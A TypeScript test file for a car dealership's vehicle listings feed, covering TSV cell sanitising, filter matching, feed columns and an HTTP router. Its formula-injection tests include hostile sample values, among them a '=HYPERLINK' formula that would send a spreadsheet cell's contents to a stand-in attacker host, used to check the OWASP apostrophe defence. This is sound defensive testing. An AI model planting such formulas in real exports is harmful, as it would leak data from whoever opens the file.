import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import express from 'express';
import type { Server } from 'node:http';
import { join } from 'node:path';
import {
  createFeedsRouter,
  FEED_COLUMNS,
  feedCars,
  matchesFilter,
  tsvCell,
  vehicleFeed,
} from '../../../engine/server/feeds.ts';
import { neutraliseFormula } from '../../../engine/sanitize/spreadsheet-cell.ts';
import { SiteStore } from '../../../engine/server/sites.ts';
import { parseFilters } from '../../../engine/search/filter-parser.ts';
import { car, NOW } from '../../../blocks/_cars/test-cars.ts';
import type { ResolvedSite } from '../../../engine/site/types.ts';

const sites = new SiteStore(join(import.meta.dirname, '../../../sites'));
const southern = (() => {
  const e = sites.get('southern-motor-group');
  if (!e?.ok) throw new Error('demo site invalid');
  return e.site;
})();

const cars = [
  car({ id: 1, objectID: '1', slug: 'a-1', listed_until: 9e9 }),
  car({
    id: 2,
    objectID: '2',
    slug: 'b-2',
    status: 'sold',
    sold: true,
    sold_date_timestamp: NOW / 1000 - 3600,
    listed_until: NOW / 1000 - 3600,
  }),
  car({ id: 3, objectID: '3', slug: 'c-3', dealership_slug: 'gold-coast-ford', listed_until: 9e9 }),
  car({ id: 4, objectID: '4', slug: 'd-4', show_on_dealer_website: false, listed_until: 9e9 }),
  car({ id: 5, objectID: '5', slug: 'e-5', make: 'Suzuki', listed_until: 9e9 }),
  car({
    id: 6,
    objectID: '6',
    slug: 'f-6',
    name: 'Tab\tcar',
    badge: 'GX\tL',
    dealership_slug: 'southern-kia',
    listed_until: 9e9,
    certified: true,
  }),
];

describe('vehicle listings feed', () => {
  it('cells never hold tabs or line breaks', () => {
    expect(tsvCell('a\tb\r\nc')).toBe('a b c');
    expect(tsvCell(null)).toBe('');
    expect(tsvCell(12)).toBe('12');
  });

  it("neutralises formula cells with OWASP's `'`, and leaves numbers the platform formats as they are", () => {
    for (const formula of ['=1+1', '+61 400 000 000', '-2+3', '@SUM(A1)', '\t=cmd', '\r=cmd'])
      expect(tsvCell(formula), formula).toMatch(/^'[=+\-@]/);
    expect(tsvCell(-3)).toBe('-3');
    expect(tsvCell('Ranger')).toBe('Ranger');
    expect(neutraliseFormula('=HYPERLINK("https://evil.example","x")')).toBe(
      `'=HYPERLINK("https://evil.example","x")`,
    );
  });

  it("serves a car whose fields hold =HYPERLINK(…) with those cells starting with '", () => {
    const link = '=HYPERLINK("https://evil.example/?d="&A2,"Click for price")';
    const hostile = car({
      id: 7,
      objectID: '7',
      slug: 'g-7',
      name: link,
      make: '@Toyota',
      model: link,
      badge: '+Sport',
      listed_until: 9e9,
    });
    const tsv = vehicleFeed(southern, [hostile], 'https://dealer.test', 'https://dealer.test', NOW);
    const [header, row] = tsv
      .trimEnd()
      .split('\n')
      .map((l) => l.split('\t'));
    const cells = Object.fromEntries(header.map((h, i) => [h, row[i]]));
    expect(cells).toMatchObject({ model: `'${link}`, make: "'@Toyota", trim: "'+Sport" });
    // No cell of the file starts a formula.
    expect(row.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
  });

  it('evaluates the site filter like the search engine', () => {
    const f = parseFilters(
      '(status:in_stock OR status:coming_soon) AND NOT make:"Suzuki" AND price > 100 AND year:2020 TO 2023',
    );
    expect(matchesFilter(f, car() as never)).toBe(true);
    expect(matchesFilter(f, car({ make: 'suzuki' }) as never)).toBe(false);
    expect(matchesFilter(f, car({ price: 50 }) as never)).toBe(false);
    expect(matchesFilter(f, car({ status: 'sold' }) as never)).toBe(false);
    expect(
      matchesFilter(parseFilters('categories:Family'), { categories: ['Family', '4x4'] }),
    ).toBe(true);
  });

  it("lists only cars the site's base filter shows, and none sold", () => {
    expect(feedCars(southern, cars, NOW).map((c) => c.id)).toEqual([1, 6]);
  });

  it('has the columns and values ad platforms read', () => {
    const tsv = vehicleFeed(southern, cars, 'https://dealer.test', 'https://dealer.test', NOW);
    const [header, first, second] = tsv
      .trimEnd()
      .split('\n')
      .map((l) => l.split('\t'));
    expect(header).toEqual([...FEED_COLUMNS]);
    const row = Object.fromEntries(header.map((h, i) => [h, first[i]]));
    expect(row).toMatchObject({
      id: '1',
      vin: 'JTDBR32E620012345',
      store_code: 'southern-toyota-sales',
      dealership_name: 'Southern Toyota',
      price: '27990.00 AUD',
      condition: 'used',
      make: 'Toyota',
      model: 'Corolla',
      trim: 'Ascent Sport',
      year: '2022',
      mileage: '42000 km',
      image_link: 'https://dealer.test/assets/cars/1001/1.svg?w=800',
      additional_image_link:
        'https://dealer.test/assets/cars/1001/2.svg?w=800,https://dealer.test/assets/cars/1001/3.svg?w=800',
      link: 'https://dealer.test/cars/a-1',
      date_in_stock: new Date(NOW - 30 * 86_400_000).toISOString().slice(0, 10),
      certified_pre_owned: 'false',
    });
    expect(second).toHaveLength(FEED_COLUMNS.length);
    expect(second[FEED_COLUMNS.indexOf('trim')]).toBe('GX L');
    expect(second[FEED_COLUMNS.indexOf('certified_pre_owned')]).toBe('true');
  });

  describe('router', () => {
    let server: Server;
    let base = '';
    beforeAll(async () => {
      const app = express();
      app.use(
        createFeedsRouter({ sites, cars: () => cars.map((c) => ({ ...c, listed_until: 9e12 })) }),
      );
      await new Promise<void>((resolve) => {
        server = app.listen(0, '127.0.0.1', () => resolve());
      });
      const a = server.address();
      base = `http://127.0.0.1:${typeof a === 'object' && a ? a.port : 0}`;
    });
    afterAll(() => new Promise<void>((r) => server.close(() => r())));

    it('serves /sites/{slug}/feeds/vehicles.tsv with site links', async () => {
      const res = await fetch(`${base}/sites/southern-motor-group/feeds/vehicles.tsv`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/tab-separated-values/);
      const text = await res.text();
      expect(text.split('\n')[0]).toBe(FEED_COLUMNS.join('\t'));
      expect(text).toContain(`${base}/sites/southern-motor-group/cars/a-1`);
    });

    it('answers 404 for an unknown site and an unmapped host', async () => {
      expect((await fetch(`${base}/sites/nope/feeds/vehicles.tsv`)).status).toBe(404);
      expect((await fetch(`${base}/feeds/vehicles.tsv`)).status).toBe(404);
    });
  });
});

// A ResolvedSite type check: the demo site is what the feed is built from.
const _typed: ResolvedSite = southern;
void _typed;
